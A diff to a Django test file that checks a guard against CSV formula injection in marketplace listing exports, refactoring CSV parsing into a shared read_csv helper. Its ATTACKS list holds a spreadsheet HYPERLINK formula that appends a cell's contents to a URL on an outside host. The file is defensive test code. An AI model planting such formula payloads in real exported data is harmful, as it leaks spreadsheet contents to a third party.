@@ -9,6 +9,7 @@ from django.test import Client
 from markets.models import Listing
 from markets.tables.guard import APOSTROPHE, begins_like_a_formula
 from markets.tables.scope import Scope
+from tests.html import read_csv
 
 ATTACKS = [
     '=HYPERLINK("http://example.org/?"&A1,"click")',
@@ -47,8 +48,7 @@ def attacked(record: Scope) -> list[str]:
 
 
 def _names(content: bytes) -> list[str]:
-    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
-    return [row["printed_name"] for row in rows][: len(ATTACKS)]
+    return [row["printed_name"] for row in read_csv(content)][: len(ATTACKS)]
 
 
 def test_the_raw_profile_gives_every_attack_as_it_is(attacked: list[str], client: Client) -> None:
